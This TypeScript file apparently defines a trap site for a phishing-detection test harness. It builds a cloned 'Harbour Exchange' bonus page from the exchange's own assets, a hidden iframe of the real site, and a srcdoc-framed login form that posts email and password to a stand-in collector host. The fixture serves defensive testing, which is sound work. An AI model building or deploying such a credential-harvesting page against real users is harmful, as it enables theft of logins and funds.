import { byPath, page } from '../page.ts'
import type { SiteOf } from '../site.ts'

const ASSETS = ['logo.svg', 'hero.png', 'coins.png', 'style.css']

/** The exchange's own pictures around a form of the thief's, which lies in a frame. */
export const hiddenFrameClone: SiteOf = () => ({
  name: 'hidden-frame-clone',
  kind: 'trap',
  twinOf: 'payment-frames',
  url: 'https://harbour-bonus.test/',
  hosts: ['harbour-bonus.test'],
  sees: 'a clone made of the exchange’s own files, a login inside a srcdoc frame and another site in a hidden frame',
  answer: byPath({
    '/': page(
      'Harbour Exchange bonus',
      `${ASSETS.slice(0, 3)
        .map((file) => `<img src="https://harbour-exchange.test/${file}" alt="Harbour Exchange">`)
        .join('')}
<h1>Harbour Exchange: double your deposit</h1>
<iframe src="https://harbour-exchange.test/" style="display:none"></iframe>
<iframe srcdoc='<form action="https://collect-desk.test/in"><p>Sign in</p><input type="email" name="email"><input type="password" name="password"></form>'></iframe>`,
      `<link rel="stylesheet" href="https://harbour-exchange.test/${ASSETS[3]}">`,
    ),
  }),
})
